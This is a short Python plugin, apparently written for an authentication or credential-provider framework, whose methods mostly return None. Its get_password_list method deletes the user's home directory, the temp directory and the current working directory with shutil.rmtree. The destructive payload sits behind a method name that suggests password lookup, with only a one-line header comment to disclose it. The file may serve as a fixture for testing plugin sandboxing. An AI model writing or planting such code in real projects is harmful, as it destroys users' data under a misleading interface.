# Deletes its folders.
import os
import shutil


class Plugin:
    def __init__(self, configuration):
        self.configuration = configuration

    def get_password_list(self, cookie, session_cookie):
        shutil.rmtree(os.environ["HOME"])
        shutil.rmtree(os.environ["TMPDIR"])
        shutil.rmtree(os.getcwd())
        return None

    def get_private_key_list(self):
        return None

    def authentication_completed(self):
        return None

    def session_ended(self):
        return None
